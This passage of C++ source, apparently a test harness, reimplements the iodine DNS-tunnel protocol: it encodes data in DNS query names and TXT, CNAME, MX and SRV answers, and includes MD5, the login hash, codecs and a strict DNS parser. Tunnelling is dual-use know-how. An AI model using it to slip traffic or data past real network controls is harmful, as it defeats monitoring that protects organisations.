		if (r.type != refdns::T_TXT) { a.err = "answer type is not TXT"; return false; }
		Bytes all;
		for (auto &s : r.txt) all.insert(all.end(), s.begin(), s.end());
		if (all.empty()) { a.err = "empty TXT"; return false; }
		bool hn, raw; int c = codec_of_prefix((char)all[0], &hn, &raw);
		if (c < 0 || hn) { a.err = "TXT with unknown codec prefix"; return false; }
		a.prefix = (char)all[0];
		if (raw) a.payload.assign(all.begin() + 1, all.end());
		else a.payload = ref::codec_decode(c, std::string(all.begin() + 1, all.end()), false);
		a.ok = true;
		return true;
	}
	if (t == refdns::T_CNAME || t == refdns::T_A) {
		const RR &r = m.answers[0];
		if (r.type != refdns::T_CNAME) { a.err = "answer type is not CNAME"; return false; }
		std::string err;
		if (!decode_hostname(r.target.dotted(), &a.prefix, a.payload, err)) { a.err = err; return false; }
		a.ok = true;
		return true;
	}
	if (t == refdns::T_MX || t == refdns::T_SRV) {
		std::vector<const RR *> rs;
		for (auto &r : m.answers) if (r.type == t) rs.push_back(&r);
		std::sort(rs.begin(), rs.end(), [](const RR *x, const RR *y) { return x->pref < y->pref; });
		int expect = 10;
		for (const RR *r : rs) {
			if (r->pref != expect) break;
			Bytes part; std::string err; char p;
			if (!decode_hostname(r->target.dotted(), &p, part, err)) { if (expect == 10) { a.err = err; return false; } break; }
			if (expect == 10) a.prefix = p;
			a.payload.insert(a.payload.end(), part.begin(), part.end());
			expect += 10;
		}
		if (expect == 10) { a.err = "no record with preference 10"; return false; }
		a.ok = true;
		return true;
	}
	a.err = "unsupported question type";
	return false;
}

bool down_header(const Bytes &p, DownHdr &h)
{
	if (p.size() < 2) return false;
	h.compressed = p[0] & 0x80;
	h.up_seq = (p[0] >> 4) & 7; h.up_frag = p[0] & 15;
	h.dn_seq = (p[1] >> 5) & 7; h.dn_frag = (p[1] >> 1) & 15; h.last = p[1] & 1;
	return true;
}

// ------------------------------------------------------------------ client message builders
std::string dotify57(const std::string &enc, const std::string &header)
{
	std::string out = header;
	for (size_t i = 0; i < enc.size(); i++) {
		out += enc[i];
		if ((i + 1) % 57 == 0 && i + 1 < enc.size()) out += '.';
	}
	return out;
}

std::string host_b32(char cmd, const Bytes &data, const std::string &domain)
{
	return dotify57(ref::codec_encode(0, data), std::string(1, cmd)) + "." + domain;
}

static std::string cmc3(uint16_t cmc)
{
	std::string s;
	s += ref::b32_char((cmc >> 10) & 31); s += ref::b32_char((cmc >> 5) & 31); s += ref::b32_char(cmc & 31);
	return s;
}

std::string name_version(uint32_t v, uint16_t cmc, const std::string &domain)
{
	Bytes d = {(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v, (uint8_t)(cmc >> 8), (uint8_t)cmc};
	return host_b32('v', d, domain);
}
std::string name_login(int userid, const uint8_t hash[16], uint16_t cmc, const std::string &domain)
{
	Bytes d; d.push_back((uint8_t)userid); d.insert(d.end(), hash, hash + 16);
	d.push_back((uint8_t)(cmc >> 8)); d.push_back((uint8_t)cmc);
	return host_b32('l', d, domain);
}
std::string name_ip(int userid, uint16_t cmc, const std::string &domain)
{
	return std::string("i") + ref::b32_char(userid) + cmc3(cmc) + "." + domain;
}
std::string name_switch_codec(int userid, int bits, uint16_t cmc, const std::string &domain)
{
	return std::string("s") + ref::b32_char(userid) + ref::b32_char(bits) + cmc3(cmc) + "." + domain;
}
std::string name_option(int userid, char opt, uint16_t cmc, const std::string &domain)
{
	return std::string("o") + ref::b32_char(userid) + opt + cmc3(cmc) + "." + domain;
}
std::string name_downenc_test(char codec, int variant, uint16_t cmc, const std::string &domain)
{
	return std::string("y") + codec + ref::b32_char(variant) + cmc3(cmc) + "." + domain;
}
std::string name_z(const std::string &text, uint16_t cmc, const std::string &domain)
{
	return std::string("z") + cmc3(cmc) + text + "." + domain;
}
std::string name_fragprobe(int userid, int fragsize, const std::string &filler, const std::string &domain)
{
	std::string h = "r";
	h += ref::b32_char(((userid & 15) << 1) | ((fragsize >> 10) & 1));
	h += ref::b32_char((fragsize >> 5) & 31);
	h += ref::b32_char(fragsize & 31);
	return h + filler + "." + domain;
}
std::string name_set_fragsize(int userid, int fragsize, uint16_t cmc, const std::string &domain)
{
	Bytes d = {(uint8_t)userid, (uint8_t)(fragsize >> 8), (uint8_t)fragsize, (uint8_t)(cmc >> 8), (uint8_t)cmc};
	return host_b32('n', d, domain);
}
std::string name_ping(int userid, int dn_seq, int dn_frag, uint16_t cmc, const std::string &domain)
{
	Bytes d = {(uint8_t)userid, (uint8_t)(((dn_seq & 7) << 4) | (dn_frag & 15)), (uint8_t)(cmc >> 8), (uint8_t)cmc};
	return host_b32('p', d, domain);
}
std::string name_data(int userid, int up_seq, int up_frag, int dn_seq, int dn_frag, int last,
		      char cmcchar, int codec, const Bytes &chunk, const std::string &domain)
{
	static const char hexd[] = "0123456789abcdef";
	std::string h;
	h += hexd[userid & 15];
	h += ref::b32_char(((up_seq & 7) << 2) | ((up_frag & 15) >> 2));
	h += ref::b32_char(((up_frag & 3) << 3) | (dn_seq & 7));
	h += ref::b32_char(((dn_frag & 15) << 1) | (last & 1));
	h += cmcchar;
	return dotify57(ref::codec_encode(codec, chunk), h) + "." + domain;
}

Bytes make_query(uint16_t id, const std::string &name, uint16_t qtype, bool edns0)
{
	return build_query(id, split_labels(name), qtype, edns0);
}

// ------------------------------------------------------------------ server answer builder
static std::string enc_hostname(const Bytes &data, size_t &off, char downenc, int td_a, int td_b)
{
	int c = downenc == 'S' ? 1 : (downenc == 'U' ? 2 : (downenc == 'V' ? 3 : 0));
	char prefix = downenc == 'S' ? 'i' : (downenc == 'U' ? 'j' : (downenc == 'V' ? 'k' : 'h'));
	size_t maxchars = 240;
	size_t nbytes = std::min(data.size() - off, maxchars * ref::CODEC_BITS[c] / 8);
	Bytes part(data.begin() + off, data.begin() + off + nbytes);
	off += nbytes;
	std::string enc = ref::codec_encode(c, part);
	// first label holds prefix + 56 chars, later labels 57 chars
	std::string out(1, prefix);
	for (size_t i = 0; i < enc.size(); i++) {
		out += enc[i];
		if ((i + 2) % 57 == 0 && i + 1 < enc.size()) out += '.';
	}
	out += '.';
	out += (char)('a' + (td_a % 26));
	out += (char)('a' + (td_b % 25));
	return out;
}

Bytes make_answer(uint16_t id, const std::string &qname, uint16_t qtype, const Bytes &payload, char downenc, int td_a, int td_b)
{
	Bytes b;
	put16(b, id); put16(b, 0x8400);
	put16(b, 1); put16(b, 0); put16(b, 0); put16(b, 0);
	put_name(b, split_labels(qname)); put16(b, qtype); put16(b, 1);
	uint16_t an = 0;
	auto rr_head = [&](uint16_t type) { put16(b, 0xC00C); put16(b, type); put16(b, 1); put32(b, 0); };
	if (qtype == refdns::T_NULL || qtype == refdns::T_PRIVATE) {
		rr_head(qtype); put16(b, (uint16_t)payload.size()); b.insert(b.end(), payload.begin(), payload.end()); an = 1;
	} else if (qtype == refdns::T_TXT) {
		int c = downenc == 'S' ? 1 : (downenc == 'U' ? 2 : (downenc == 'V' ? 3 : 0));
		Bytes txt;
		if (downenc == 'R') { txt.push_back('r'); txt.insert(txt.end(), payload.begin(), payload.end()); }
		else {
			char p = downenc == 'S' ? 's' : (downenc == 'U' ? 'u' : (downenc == 'V' ? 'v' : 't'));
			std::string e = ref::codec_encode(c, payload);
			txt.push_back((uint8_t)p); txt.insert(txt.end(), e.begin(), e.end());
		}
		Bytes rd;
		for (size_t i = 0; i < txt.size(); i += 252) {
			size_t l = std::min<size_t>(252, txt.size() - i);
			rd.push_back((uint8_t)l); rd.insert(rd.end(), txt.begin() + i, txt.begin() + i + l);
		}
		rr_head(refdns::T_TXT); put16(b, (uint16_t)rd.size()); b.insert(b.end(), rd.begin(), rd.end()); an = 1;
	} else if (qtype == refdns::T_CNAME || qtype == refdns::T_A) {
		size_t off = 0;
		std::string h = enc_hostname(payload, off, downenc, td_a, td_b);
		Bytes nm; put_name(nm, split_labels(h));
		rr_head(refdns::T_CNAME); put16(b, (uint16_t)nm.size()); b.insert(b.end(), nm.begin(), nm.end()); an = 1;
	} else {
		size_t off = 0;
		do {
			std::string h = enc_hostname(payload, off, downenc, td_a + an, td_b + an);
			Bytes nm; put_name(nm, split_labels(h));
			an++;
			rr_head(qtype);
			put16(b, (uint16_t)(nm.size() + (qtype == refdns::T_SRV ? 6 : 2)));
			put16(b, (uint16_t)(10 * an));
			if (qtype == refdns::T_SRV) { put16(b, 10); put16(b, 5060); }
			b.insert(b.end(), nm.begin(), nm.end());
		} while (off < payload.size() && an < 200);
	}
	b[6] = (uint8_t)(an >> 8); b[7] = (uint8_t)an;
	return b;
}

Bytes zcompress(const Bytes &in)
{
	uLongf n = compressBound(in.size()) + 16;
	Bytes out(n);
	compress2(out.data(), &n, in.data(), in.size(), 9);
	out.resize(n);
	return out;
}
bool zuncompress(const Bytes &in, Bytes &out)
{
	out.resize(65536);
	uLongf n = out.size();
	int r = uncompress(out.data(), &n, in.data(), in.size());
	if (r != Z_OK) { out.clear(); return false; }
	out.resize(n);
	return true;
}

Bytes raw_frame(int cmd, int userid, const Bytes &body)
{
	Bytes b = {0x10, 0xd1, 0x9e, (uint8_t)(((cmd & 15) << 4) | (userid & 15))};
	b.insert(b.end(), body.begin(), body.end());
	return b;
}

} // namespace refproto
