// refmisc.cc -- see refmisc.h
#include "refmisc.h"
#include <cstring>
#include <cmath>

namespace ref {

// ------------------------------------------------------------------ MD5 (RFC 1321, written from the RFC text)
static inline uint32_t rol(uint32_t x, int s) { return (x << s) | (x >> (32 - s)); }

void md5(const uint8_t *data, size_t len, uint8_t out[16])
{
	static const int S[64] = {7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22, 7, 12, 17, 22,
				  5, 9, 14, 20, 5, 9, 14, 20, 5, 9, 14, 20, 5, 9, 14, 20,
				  4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23, 4, 11, 16, 23,
				  6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21, 6, 10, 15, 21};
	static uint32_t K[64];
	static bool init = false;
	if (!init) {
		for (int i = 0; i < 64; i++) K[i] = (uint32_t)(int64_t)std::floor(std::fabs(std::sin((double)(i + 1))) * 4294967296.0);
		init = true;
	}
	uint32_t a0 = 0x67452301, b0 = 0xefcdab89, c0 = 0x98badcfe, d0 = 0x10325476;
	Bytes msg(data, data + len);
	msg.push_back(0x80);
	while (msg.size() % 64 != 56) msg.push_back(0);
	uint64_t bits = (uint64_t)len * 8;
	for (int i = 0; i < 8; i++) msg.push_back((uint8_t)(bits >> (8 * i)));
	for (size_t off = 0; off < msg.size(); off += 64) {
		uint32_t M[16];
		for (int i = 0; i < 16; i++)
			M[i] = (uint32_t)msg[off + 4 * i] | ((uint32_t)msg[off + 4 * i + 1] << 8) |
			       ((uint32_t)msg[off + 4 * i + 2] << 16) | ((uint32_t)msg[off + 4 * i + 3] << 24);
		uint32_t A = a0, B = b0, C = c0, D = d0;
		for (int i = 0; i < 64; i++) {
			uint32_t F; int g;
			if (i < 16) { F = (B & C) | (~B & D); g = i; }
			else if (i < 32) { F = (D & B) | (~D & C); g = (5 * i + 1) % 16; }
			else if (i < 48) { F = B ^ C ^ D; g = (3 * i + 5) % 16; }
			else { F = C ^ (B | ~D); g = (7 * i) % 16; }
			F = F + A + K[i] + M[g];
			A = D; D = C; C = B;
			B = B + rol(F, S[i]);
		}
		a0 += A; b0 += B; c0 += C; d0 += D;
	}
	uint32_t r[4] = {a0, b0, c0, d0};
	for (int i = 0; i < 4; i++) for (int j = 0; j < 4; j++) out[4 * i + j] = (uint8_t)(r[i] >> (8 * j));
}

bool md5_selftest()
{
	struct { const char *in; const char *hex; } tv[] = {
		{"", "d41d8cd98f00b204e9800998ecf8427e"},
		{"a", "0cc175b9c0f1b6a831c399e269772661"},
		{"abc", "900150983cd24fb0d6963f7d28e17f72"},
		{"message digest", "f96b697d7cb7938d525a2f31aaf161d0"},
		{"abcdefghijklmnopqrstuvwxyz", "c3fcd3d76192e4007dfb496cca67e13b"},
		{"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", "d174ab98d277d9f5a5611c2c9f419d9f"},
		{"12345678901234567890123456789012345678901234567890123456789012345678901234567890", "57edf4a22be3c955ac49da2e2107b67a"},
	};
	for (auto &t : tv) {
		uint8_t o[16]; md5((const uint8_t *)t.in, strlen(t.in), o);
		char h[33];
		for (int i = 0; i < 16; i++) snprintf(h + 2 * i, 3, "%02x", o[i]);
		if (strcmp(h, t.hex)) return false;
	}
	return true;
}

void login_hash(const Bytes &password, uint32_t challenge, uint8_t out[16])
{
	uint8_t buf[32];
	memset(buf, 0, sizeof buf);
	for (size_t i = 0; i < password.size() && i < 32; i++) buf[i] = password[i];
	for (int i = 0; i < 8; i++) {
		buf[4 * i + 0] ^= (uint8_t)(challenge >> 24);
		buf[4 * i + 1] ^= (uint8_t)(challenge >> 16);
		buf[4 * i + 2] ^= (uint8_t)(challenge >> 8);
		buf[4 * i + 3] ^= (uint8_t)(challenge);
	}
	md5(buf, 32, out);
}

// ------------------------------------------------------------------ codecs
const int CODEC_BITS[4] = {5, 6, 6, 7};

static uint8_t A32[32], A64[64], A64U[64], A128[128];
static int16_t REV[4][256];
static bool codec_init_done = false;

static void codec_init()
{
	if (codec_init_done) return;
	int n = 0;
	for (int c = 'a'; c <= 'z'; c++) A32[n++] = (uint8_t)c;
	for (int c = '0'; c <= '5'; c++) A32[n++] = (uint8_t)c;
	// protocol 0x00000502 index order for Base64: a-z A-Z '-' 0-9 '+'  (Base64u: '_' instead of '+')
	n = 0;
	for (int c = 'a'; c <= 'z'; c++) A64[n++] = (uint8_t)c;
	for (int c = 'A'; c <= 'Z'; c++) A64[n++] = (uint8_t)c;
	A64[n++] = '-';
	for (int c = '0'; c <= '9'; c++) A64[n++] = (uint8_t)c;
	A64[n++] = '+';
	memcpy(A64U, A64, 64); A64U[63] = '_';
	n = 0;
	for (int c = 'a'; c <= 'z'; c++) A128[n++] = (uint8_t)c;
	for (int c = 'A'; c <= 'Z'; c++) A128[n++] = (uint8_t)c;
	for (int c = '0'; c <= '9'; c++) A128[n++] = (uint8_t)c;
	for (int c = 0xBC; c <= 0xFD; c++) A128[n++] = (uint8_t)c;
	for (int k = 0; k < 4; k++) for (int i = 0; i < 256; i++) REV[k][i] = -1;
	for (int i = 0; i < 32; i++) { REV[0][A32[i]] = (int16_t)i; if (A32[i] >= 'a' && A32[i] <= 'z') REV[0][A32[i] - 32] = (int16_t)i; }
	for (int i = 0; i < 64; i++) { REV[1][A64[i]] = (int16_t)i; REV[2][A64U[i]] = (int16_t)i; }
	for (int i = 0; i < 128; i++) REV[3][A128[i]] = (int16_t)i;
	codec_init_done = true;
}

const uint8_t *codec_alphabet(int c)
{
	codec_init();
	switch (c) { case 0: return A32; case 1: return A64; case 2: return A64U; default: return A128; }
}

size_t codec_enc_len(int c, size_t n) { return (8 * n + CODEC_BITS[c] - 1) / CODEC_BITS[c]; }
size_t codec_dec_len(int c, size_t n) { return n * CODEC_BITS[c] / 8; }

std::string codec_encode(int c, const Bytes &data)
{
	codec_init();
	const uint8_t *al = codec_alphabet(c);
	int bits = CODEC_BITS[c];
	std::string out;
	uint32_t acc = 0; int nb = 0;
	for (uint8_t b : data) {
		acc = (acc << 8) | b; nb += 8;
		while (nb >= bits) { out += (char)al[(acc >> (nb - bits)) & ((1u << bits) - 1)]; nb -= bits; }
		acc &= (1u << nb) - 1;
	}
	if (nb > 0) out += (char)al[(acc << (bits - nb)) & ((1u << bits) - 1)];
	return out;
}

Bytes codec_decode(int c, const std::string &text, bool skip_dots)
{
	codec_init();
	int bits = CODEC_BITS[c];
	Bytes out;
	uint32_t acc = 0; int nb = 0;
	for (unsigned char ch : text) {
		if (skip_dots && ch == '.') continue;
		int v = REV[c][ch];
		if (v < 0) v = 0;
		acc = (acc << bits) | (uint32_t)v; nb += bits;
		if (nb >= 8) { out.push_back((uint8_t)(acc >> (nb - 8))); nb -= 8; }
		acc &= (1u << nb) - 1;
	}
	return out;
}

int b32_value(int ch) { codec_init(); if (ch < 0 || ch > 255) return -1; return REV[0][ch]; }
char b32_char(int v) { codec_init(); return (char)A32[v & 31]; }

// ------------------------------------------------------------------ domain rules, label-wise
static std::vector<std::string> split(const std::string &s)
{
	std::vector<std::string> v; std::string cur;
	for (char c : s) { if (c == '.') { v.push_back(cur); cur.clear(); } else cur += c; }
	v.push_back(cur);
	return v;
}

bool valid_topdomain(const std::string &s, bool allow_wildcard)
{
	if (s.size() < 3 || s.size() > 128) return false;
	std::vector<std::string> L = split(s);
	if (L.size() < 2) return false;
	for (size_t i = 0; i < L.size(); i++) {
		const std::string &l = L[i];
		if (l.empty() || l.size() > 63) return false;
		if (i == 0 && allow_wildcard && l == "*") continue;
		for (unsigned char c : l) {
			bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-';
			if (!ok) return false;
		}
	}
	return true;
}

static bool label_ieq(const std::string &a, const std::string &b)
{
	if (a.size() != b.size()) return false;
	for (size_t i = 0; i < a.size(); i++) {
		unsigned char x = a[i], y = b[i];
		if (x >= 'A' && x <= 'Z') x += 32;
		if (y >= 'A' && y <= 'Z') y += 32;
		if (x != y) return false;
	}
	return true;
}

int match_datalen(const std::string &qname, const std::string &domain)
{
	if (domain.size() < 3) return -1;
	std::vector<std::string> Q = split(qname), T = split(domain);
	if (Q.size() < T.size()) return -1;
	size_t off = Q.size() - T.size();
	for (size_t i = 0; i < T.size(); i++) {
		const std::string &q = Q[off + i], &t = T[i];
		if (i == 0 && t == "*") {
			if (q.empty()) return -1;
			if (q.find('*') != std::string::npos) return -1;
			continue;
		}
		if (!label_ieq(q, t)) return -1;
	}
	size_t n = 0;
	for (size_t i = 0; i < off; i++) n += Q[i].size() + 1;
	return (int)n;
}

} // namespace ref
