// refproto.h -- independent peer implementation of iodine protocol 0x00000502, written from
// doc/proto_00000502.txt (message layouts) and RFC 1035 (via refdns).  Used by scripted actors,
// relays and monitors.  No repository code is included.
#pragma once
#include "refdns.h"
#include "refmisc.h"
#include <string>
#include <vector>

namespace refproto {
typedef std::vector<uint8_t> Bytes;

static const uint32_t PROTOCOL_VERSION = 0x00000502;

// ---- decoding what the real programs emit
struct Query {
	bool ok = false;
	uint16_t id = 0, qtype = 0;
	bool edns0 = false;
	std::string name;      // full dotted name, bytes verbatim
	std::string data;      // part before the tunnel domain (includes the separating dot), "" if name == domain
	char cmd = 0;          // first character of data
	std::string rest;      // data without the first character and without the trailing dot
};
// true when the datagram is a well-formed query (strict refdns) whose name lies under `domain`
bool decode_query(const Bytes &dgram, const std::string &domain, Query &q, std::string *why = nullptr);

// for ping ('p') and data (hex digit) queries: the session named and the downstream ack carried
struct QAck { bool is_ping = false, is_data = false; int user = -1, dn_seq = 0, dn_frag = 0, up_seq = 0, up_frag = 0, last = 0; };
bool query_ack(const Query &q, QAck &a);

struct Answer {
	bool ok = false;       // well-formed response whose payload could be extracted
	std::string err;       // why not
	uint16_t id = 0, qtype = 0;
	std::string qname;
	int rcode = 0, ancount = 0;
	char prefix = 0;       // downstream codec letter found (t s u v r / h i j k), 0 for NULL/PRIVATE
	Bytes payload;         // decoded downstream payload
	refdns::Msg msg;
};
bool decode_answer(const Bytes &dgram, Answer &a);

struct DownHdr { bool compressed; int up_seq, up_frag, dn_seq, dn_frag, last; };
bool down_header(const Bytes &payload, DownHdr &h);

// ---- building client messages (names); `cmc` fields are caller-chosen
std::string dotify57(const std::string &encoded, const std::string &header);   // header + encoded, '.' after every 57 encoded chars
std::string host_b32(char cmd, const Bytes &data, const std::string &domain);  // cmd + base32(data) dotted + '.' + domain
std::string name_version(uint32_t version, uint16_t cmc, const std::string &domain);
std::string name_login(int userid, const uint8_t hash[16], uint16_t cmc, const std::string &domain);
std::string name_ip(int userid, uint16_t cmc, const std::string &domain);
std::string name_switch_codec(int userid, int bits, uint16_t cmc, const std::string &domain);
std::string name_option(int userid, char opt, uint16_t cmc, const std::string &domain);
std::string name_downenc_test(char codec, int variant, uint16_t cmc, const std::string &domain);
std::string name_z(const std::string &text, uint16_t cmc, const std::string &domain);
std::string name_fragprobe(int userid, int fragsize, const std::string &filler, const std::string &domain);
std::string name_set_fragsize(int userid, int fragsize, uint16_t cmc, const std::string &domain);
std::string name_ping(int userid, int dn_seq, int dn_frag, uint16_t cmc, const std::string &domain);
// upstream data chunk: codec 0..3; `cmcchar` one of a-z0-9; payload is the raw (already compressed) chunk
std::string name_data(int userid, int up_seq, int up_frag, int dn_seq, int dn_frag, int last,
		      char cmcchar, int codec, const Bytes &chunk, const std::string &domain);
Bytes make_query(uint16_t id, const std::string &name, uint16_t qtype, bool edns0);

uint16_t qtype_of(int k);       // 1 NULL,2 PRIVATE,3 TXT,4 SRV,5 MX,6 CNAME,7 A
const char *qtype_name(int k);

// ---- building server answers from fields (for scripted servers / hostile answers)
// downenc: 'T','S','U','V','R'.  Returns the DNS response datagram for the given question.
Bytes make_answer(uint16_t id, const std::string &qname, uint16_t qtype, const Bytes &payload, char downenc,
		  int td_a = 0, int td_b = 0);

// zlib helpers (trusted library)
Bytes zcompress(const Bytes &in);
bool zuncompress(const Bytes &in, Bytes &out);

// raw UDP mode frames
Bytes raw_frame(int cmd /*1 login,2 data,3 ping*/, int userid, const Bytes &body);

} // namespace refproto
