// refdns.cc -- strict RFC 1035 parser/builder written from the RFC, independent of iodine's dns.c/read.c
#include "refdns.h"
#include <cstdio>
#include <cstring>

namespace refdns {

std::string Name::dotted() const
{
	std::string s;
	for (size_t i = 0; i < labels.size(); i++) {
		if (i) s += '.';
		s.append((const char *)labels[i].data(), labels[i].size());
	}
	return s;
}
size_t Name::octets() const
{
	size_t n = 1;
	for (auto &l : labels) n += 1 + l.size();
	return n;
}

struct Parser {
	const Bytes &m;
	size_t pos = 12;
	std::set<size_t> label_starts;   // offsets at which a label (or the root octet) of an earlier/this name starts
	std::string err;
	explicit Parser(const Bytes &mm) : m(mm) {}

	bool need(size_t n, const char *what)
	{
		if (pos + n > m.size()) { char b[128]; snprintf(b, sizeof b, "truncated: %s needs %zu bytes at offset %zu of %zu", what, n, pos, m.size()); err = b; return false; }
		return true;
	}
	uint16_t g16() { uint16_t v = (uint16_t)((m[pos] << 8) | m[pos + 1]); pos += 2; return v; }
	uint32_t g32() { uint32_t v = ((uint32_t)m[pos] << 24) | ((uint32_t)m[pos + 1] << 16) | ((uint32_t)m[pos + 2] << 8) | m[pos + 3]; pos += 4; return v; }

	bool name(Name &n, size_t limit /* name must end at or before this offset when read in place */)
	{
		n.labels.clear(); n.start = pos; n.jumps = 0;
		size_t p = pos;
		bool jumped = false;
		size_t octets = 0;
		std::vector<size_t> mine;
		for (;;) {
			size_t bound = jumped ? m.size() : limit;
			if (p >= bound) { err = "name runs past the end of its field/message"; return false; }
			uint8_t c = m[p];
			if ((c & 0xC0) == 0xC0) {
				if (p + 1 >= bound) { err = "compression pointer cut off"; return false; }
				size_t target = ((size_t)(c & 0x3F) << 8) | m[p + 1];
				if (!jumped) { n.wire_end = p + 2; }
				if (target >= p) { err = "compression pointer does not point backwards"; return false; }
				if (!label_starts.count(target)) { char b[96]; snprintf(b, sizeof b, "compression pointer to offset %zu which is not a label boundary of an earlier name", target); err = b; return false; }
				if (++n.jumps > 127) { err = "too many compression jumps"; return false; }
				mine.push_back(p);
				p = target; jumped = true;
				continue;
			}
			if (c & 0xC0) { err = "reserved label type (0x40/0x80 bits)"; return false; }
			mine.push_back(p);
			if (c == 0) {
				octets += 1;
				if (!jumped) n.wire_end = p + 1;
				break;
			}
			if (p + 1 + c > bound) { err = "label runs past the end of its field/message"; return false; }
			n.labels.push_back(Bytes(m.begin() + p + 1, m.begin() + p + 1 + c));
			octets += 1 + c;
			if (octets > 255) { err = "name longer than 255 octets"; return false; }
			p += 1 + c;
		}
		if (octets > 255) { err = "name longer than 255 octets"; return false; }
		for (size_t o : mine) label_starts.insert(o);
		pos = n.wire_end;
		return true;
	}

	bool rr(RR &r)
	{
		if (!name(r.owner, m.size())) return false;
		if (!need(10, "RR fixed fields")) return false;
		r.type = g16(); r.klass = g16(); r.ttl = g32(); r.rdlen = g16();
		r.rdata_off = pos;
		if (pos + r.rdlen > m.size()) { err = "RDLENGTH exceeds the message"; return false; }
		r.rdata.assign(m.begin() + pos, m.begin() + pos + r.rdlen);
		size_t end = pos + r.rdlen;
		switch (r.type) {
		case T_A:
			if (r.rdlen != 4) { err = "A record RDLENGTH != 4"; return false; }
			break;
		case T_AAAA:
			if (r.rdlen != 16) { err = "AAAA record RDLENGTH != 16"; return false; }
			break;
		case T_NS: case T_CNAME:
			if (!name(r.target, end)) return false;
			if (pos != end) { err = "RDLENGTH != size of the name in RDATA"; return false; }
			break;
		case T_MX:
			if (r.rdlen < 3) { err = "MX RDATA too short"; return false; }
			r.pref = g16();
			if (!name(r.target, end)) return false;
			if (pos != end) { err = "RDLENGTH != preference + name (MX)"; return false; }
			break;
		case T_SRV:
			if (r.rdlen < 7) { err = "SRV RDATA too short"; return false; }
			r.pref = g16(); r.weight = g16(); r.port = g16();
			if (!name(r.target, end)) return false;
			if (pos != end) { err = "RDLENGTH != priority+weight+port+name (SRV)"; return false; }
			break;
		case T_TXT: {
			size_t p = pos;
			if (r.rdlen == 0) { err = "TXT with empty RDATA"; return false; }
			while (p < end) {
				size_t l = m[p];
				if (p + 1 + l > end) { err = "TXT string overruns RDLENGTH"; return false; }
				r.txt.push_back(Bytes(m.begin() + p + 1, m.begin() + p + 1 + l));
				p += 1 + l;
			}
			break;
		}
		default: break;
		}
		pos = end;
		return true;
	}
};

std::string parse(const Bytes &m, Msg &out)
{
	out = Msg();
	if (m.size() < 12) return "shorter than a DNS header";
	Parser P(m);
	out.id = (uint16_t)((m[0] << 8) | m[1]);
	out.flags = (uint16_t)((m[2] << 8) | m[3]);
	out.qd = (uint16_t)((m[4] << 8) | m[5]); out.an = (uint16_t)((m[6] << 8) | m[7]);
	out.ns = (uint16_t)((m[8] << 8) | m[9]); out.ar = (uint16_t)((m[10] << 8) | m[11]);
	for (int i = 0; i < out.qd; i++) {
		Question q;
		if (!P.name(q.name, m.size())) return "question: " + P.err;
		if (!P.need(4, "question type/class")) return "question: " + P.err;
		q.type = P.g16(); q.klass = P.g16();
		out.q.push_back(q);
	}
	for (int i = 0; i < out.an; i++) { RR r; if (!P.rr(r)) return "answer " + std::to_string(i) + ": " + P.err; out.answers.push_back(r); }
	for (int i = 0; i < out.ns; i++) { RR r; if (!P.rr(r)) return "authority " + std::to_string(i) + ": " + P.err; out.authority.push_back(r); }
	for (int i = 0; i < out.ar; i++) { RR r; if (!P.rr(r)) return "additional " + std::to_string(i) + ": " + P.err; out.additional.push_back(r); }
	if (P.pos != m.size()) { char b[96]; snprintf(b, sizeof b, "trailing bytes: sections end at %zu, message has %zu", P.pos, m.size()); return b; }
	return "";
}

void put16(Bytes &b, uint16_t v) { b.push_back((uint8_t)(v >> 8)); b.push_back((uint8_t)v); }
void put32(Bytes &b, uint32_t v) { put16(b, (uint16_t)(v >> 16)); put16(b, (uint16_t)v); }
void put_name(Bytes &b, const std::vector<Bytes> &labels)
{
	for (auto &l : labels) { b.push_back((uint8_t)l.size()); b.insert(b.end(), l.begin(), l.end()); }
	b.push_back(0);
}
std::vector<Bytes> split_labels(const std::string &d)
{
	std::vector<Bytes> v; Bytes cur;
	for (unsigned char c : d) { if (c == '.') { v.push_back(cur); cur.clear(); } else cur.push_back(c); }
	v.push_back(cur);
	return v;
}
Bytes build_query(uint16_t id, const std::vector<Bytes> &labels, uint16_t type, bool edns0, bool rd)
{
	Bytes b;
	put16(b, id); put16(b, rd ? 0x0100 : 0); put16(b, 1); put16(b, 0); put16(b, 0); put16(b, edns0 ? 1 : 0);
	put_name(b, labels); put16(b, type); put16(b, 1);
	if (edns0) { b.push_back(0); put16(b, T_OPT); put16(b, 4096); put16(b, 0); put16(b, 0x8000); put16(b, 0); }
	return b;
}
Bytes build_error_reply(const Bytes &query, int rcode)
{
	Msg q;
	Bytes b;
	if (query.size() < 12) return b;
	std::string e = parse(query, q);
	put16(b, (uint16_t)((query[0] << 8) | query[1]));
	put16(b, (uint16_t)(0x8000 | (q.rd() ? 0x0100 : 0) | 0x0080 | (rcode & 15)));
	if (e.empty() && q.q.size() == 1) {
		put16(b, 1); put16(b, 0); put16(b, 0); put16(b, 0);
		put_name(b, q.q[0].name.labels); put16(b, q.q[0].type); put16(b, q.q[0].klass);
	} else { put16(b, 0); put16(b, 0); put16(b, 0); put16(b, 0); }
	return b;
}
bool ieq(const Bytes &a, const Bytes &b)
{
	if (a.size() != b.size()) return false;
	for (size_t i = 0; i < a.size(); i++) {
		uint8_t x = a[i], y = b[i];
		if (x >= 'A' && x <= 'Z') x += 32;
		if (y >= 'A' && y <= 'Z') y += 32;
		if (x != y) return false;
	}
	return true;
}
std::string lower(const std::string &s)
{
	std::string r = s;
	for (auto &c : r) if (c >= 'A' && c <= 'Z') c = (char)(c + 32);
	return r;
}

} // namespace refdns
