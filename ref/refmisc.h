// refmisc.h -- small independent reference implementations: MD5 (RFC 1321), the login formula of
// doc/proto_00000502.txt, the four codecs as generic bit-stream packers, hostname dotting, and
// label-wise domain validation / matching (C17).  No repository code is included.
#pragma once
#include <cstdint>
#include <string>
#include <vector>

namespace ref {
typedef std::vector<uint8_t> Bytes;

// ---- MD5
void md5(const uint8_t *data, size_t len, uint8_t out[16]);
bool md5_selftest();
// login: MD5( first 32 bytes of the zero-padded password XOR 8 x big-endian challenge )
void login_hash(const Bytes &password, uint32_t challenge, uint8_t out[16]);

// ---- codecs: 0 Base32, 1 Base64, 2 Base64u, 3 Base128
extern const int CODEC_BITS[4];
